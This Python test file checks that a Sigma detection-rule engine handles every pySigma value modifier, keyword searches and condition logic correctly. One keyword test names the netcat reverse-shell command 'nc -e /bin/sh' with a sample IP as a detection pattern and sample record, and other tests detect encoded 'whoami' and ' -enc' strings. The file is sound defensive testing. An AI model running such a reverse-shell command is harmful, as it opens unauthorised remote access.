"""Every value modifier pySigma defines, keywords, selectors and null: ours and the SQLite reference agree."""

from __future__ import annotations

import base64

import pytest
from sigma.modifiers import modifier_mapping

from detectors.sigma.view import RecordView
from tests.unit.detectors.sigma.helpers import compiled, hits, rule_dict

COVERED = {
    "all",
    "neq",
    "base64",
    "base64offset",
    "cased",
    "cidr",
    "contains",
    "day",
    "dotall",
    "endswith",
    "exists",
    "expand",
    "fieldref",
    "gt",
    "gte",
    "hour",
    "i",
    "ignorecase",
    "lt",
    "lte",
    "m",
    "minute",
    "month",
    "multiline",
    "re",
    "utf16",
    "utf16be",
    "s",
    "startswith",
    "week",
    "wide",
    "windash",
    "year",
}


def test_every_pysigma_modifier_has_a_test_here():
    assert set(modifier_mapping) == COVERED


def sel(**fields):
    return {"sel": fields, "condition": "sel"}


def one(detection, *values, field="f"):
    """Match the detection against records {field: value} for each value."""
    return hits(detection, *({field: v} for v in values))


def test_plain_value_is_case_insensitive_equality():
    assert one(sel(f="CreateUser"), "createuser", "CreateUser", "CreateUsers", None, 7) == [
        True,
        True,
        False,
        False,
        False,
    ]


@pytest.mark.parametrize(
    "modifier, expect",
    [
        ("contains", [True, True, True, False]),
        ("startswith", [True, False, True, False]),
        ("endswith", [True, True, False, False]),
    ],
)
def test_contains_startswith_endswith(modifier, expect):
    assert one(sel(**{f"f|{modifier}": "Admin"}), "admin", "SiteAdmin", "administrator", "adm in") == expect


def test_wildcards_in_values():
    detection = sel(**{"f": "a*b?c"})
    assert one(detection, "abxc", "A123BXC", "abc", "a\nbzc", "abxcd") == [True, True, False, True, False]


def test_escaped_wildcard_is_literal():
    assert one(sel(f=r"50\*"), "50*", "500") == [True, False]


def test_all_requires_every_value():
    detection = sel(**{"f|contains|all": ["get", "object"]})
    assert one(detection, "s3:GetObject", "s3:GetBucket", "objectget") == [True, False, True]


def test_list_values_are_alternatives():
    assert one(sel(f=["a", "b"]), "A", "b", "c") == [True, True, False]


def test_cased():
    assert one(sel(**{"f|cased": "Admin"}), "Admin", "admin") == [True, False]
    assert one(sel(**{"f|contains|cased": "Adm"}), "SiteAdmin", "siteadmin") == [True, False]


def test_re_is_a_case_sensitive_search_through_re2():
    assert one(sel(**{"f|re": r"^ab+c"}), "abbbc-x", "ABC", "xabc") == [True, False, False]


@pytest.mark.parametrize("flag", ["i", "ignorecase"])
def test_re_ignorecase(flag):
    assert one(sel(**{f"f|re|{flag}": "^abc$"}), "ABC", "abd") == [True, False]


@pytest.mark.parametrize("flag", ["m", "multiline"])
def test_re_multiline(flag):
    assert one(sel(**{f"f|re|{flag}": "^two$"}), "one\ntwo\nthree", "onetwo") == [True, False]


@pytest.mark.parametrize("flag", ["s", "dotall"])
def test_re_dotall(flag):
    assert one(sel(**{f"f|re|{flag}": "a.b"}), "a\nb", "ab") == [True, False]


def test_cidr_v4_and_v6():
    assert one(
        sel(**{"f|cidr": ["10.0.0.0/8", "2001:db8::/32"]}), "10.2.3.4", "11.0.0.1", "2001:db8::5", "not an ip"
    ) == [True, False, True, False]


def test_base64():
    encoded = base64.b64encode(b"whoami").decode()
    assert one(sel(**{"f|base64": "whoami"}), encoded, "whoami") == [True, False]


def test_base64offset_finds_the_value_at_any_offset():
    texts = [base64.b64encode(prefix + b"secret-token" + b"tail").decode() for prefix in (b"", b"x", b"xy")]
    assert one(sel(**{"f|base64offset|contains": "secret-token"}), *texts, "c2VjcmV") == [True, True, True, False]


@pytest.mark.parametrize("modifier, encoding", [("wide", "utf-16le"), ("utf16", "utf-16"), ("utf16be", "utf-16be")])
def test_utf16_encodings_with_base64(modifier, encoding):
    encoded = base64.b64encode("ping".encode(encoding)).decode()
    assert one(sel(**{f"f|{modifier}|base64": "ping"}), encoded, base64.b64encode(b"ping").decode()) == [True, False]


def test_windash_expands_dash_and_slash():
    detection = sel(**{"f|windash|contains": " -enc "})
    assert one(detection, "ps -enc x", "ps /enc x", "ps \u2013enc x", "ps enc x") == [True, True, True, False]


@pytest.mark.parametrize("value, expect", [(True, [True, False, False]), (False, [False, True, True])])
def test_exists(value, expect):
    assert hits(sel(**{"f|exists": value}), {"f": "x"}, {"g": "x"}, {"f": None}) == expect


@pytest.mark.parametrize(
    "modifier, expect",
    [
        ("gt", [False, False, True, True]),
        ("gte", [False, True, True, True]),
        ("lt", [True, False, False, False]),
        ("lte", [True, True, False, False]),
    ],
)
def test_numeric_comparisons(modifier, expect):
    assert one(sel(**{f"f|{modifier}": 10}), 9, 10, 11, 100) == expect


def test_numbers_match_numbers_and_their_text():
    assert one(sel(f=443), 443, "443", 4430) == [True, True, False]


def test_booleans_match_json_booleans_and_their_text():
    assert one(sel(f=False), False, "false", True, "no") == [True, True, False, False]


def test_neq():
    assert hits(sel(**{"f|neq": "a"}), {"f": "a"}, {"f": "b"}, {"g": "a"}) == [False, True, True]


def test_fieldref():
    detection = sel(**{"a|fieldref": "b"})
    assert hits(detection, {"a": "X", "b": "x"}, {"a": "x", "b": "y"}, {"a": "x"}) == [True, False, False]
    starts = sel(**{"a|fieldref|startswith": "b"})
    assert hits(starts, {"a": "alice@corp", "b": "alice"}, {"a": "bob", "b": "alice"}) == [True, False]
    contains = sel(**{"a|fieldref|contains": "b"})
    assert hits(contains, {"a": "xx-alice-yy", "b": "alice"}, {"a": "bob", "b": "alice"}) == [True, False]


def test_expand_takes_placeholder_values_from_settings():
    detection = sel(**{"f|expand": "%admins%"})
    assert hits(detection, {"f": "root"}, {"f": "bob"}, placeholders={"admins": ["root", "admin"]}) == [True, False]


@pytest.mark.parametrize(
    "modifier, value", [("minute", 7), ("hour", 23), ("day", 31), ("week", 52), ("month", 12), ("year", 2026)]
)
def test_timestamp_parts(modifier, value):
    assert one(sel(**{f"t|{modifier}": value}), "2026-12-31T23:07:00Z", "2025-01-01T00:00:00Z", field="t") == [
        True,
        False,
    ]


def test_null_is_absent_or_json_null():
    assert hits(sel(f=None), {"f": None}, {}, {"f": ""}, {"f": "x"}) == [True, True, False, False]


def test_keywords_search_every_value():
    detection = {"keywords": ["reverse shell", "nc -e*/bin/sh"], "condition": "keywords"}
    assert hits(detection, {"msg": "a Reverse Shell opened"}, {"cmd": "nc -e /bin/sh 1.2.3.4"}, {"msg": "fine"}) == [
        True,
        True,
        False,
    ]


def test_keywords_on_a_line_of_text():
    detection = {"keywords": ["Failed password"], "condition": "keywords"}
    assert hits(detection, {}, text="sshd[1]: Failed password for root") == [True]


def test_one_of_and_all_of_with_wildcards():
    detection = {
        "sel_a": {"a": "1"},
        "sel_b": {"b": "2"},
        "filter": {"c": "3"},
        "condition": "1 of sel_* and not filter",
    }
    records = ({"a": "1"}, {"b": "2", "c": "3"}, {"c": "3"}, {"a": "1", "b": "2"})
    assert hits(detection, *records) == [True, False, False, True]
    every = {**detection, "condition": "all of sel_*"}
    assert hits(every, *records) == [False, False, False, True]
    them = {"x": {"a": "1"}, "y": {"b": "2"}, "condition": "all of them"}
    assert hits(them, *records) == [False, False, False, True]


def test_nested_fields_and_lists():
    detection = sel(**{"req.items.cidr": "0.0.0.0/0"})
    records = ({"req": {"items": [{"cidr": "0.0.0.0/0"}]}}, {"req": {"items": [{"cidr": "10.0.0.0/8"}]}})
    assert hits(detection, *records) == [True, False]
    whole = sel(**{"req|contains": '"cidr":"0.0.0.0/0"'})
    assert hits(whole, *records) == [True, False]


def test_comparisons_read_numeric_strings_as_numbers():
    # not checked against the reference: a column mixing numbers and text has TEXT affinity in
    # SQLite, which then compares '999' >= '1000000' as text (true)
    rule = compiled(rule_dict(sel(**{"f|gte": 1000000})))
    assert [rule.matches(RecordView({"f": v})) for v in ("999", "2500000", 2500000, "n/a")] == [
        False,
        True,
        True,
        False,
    ]
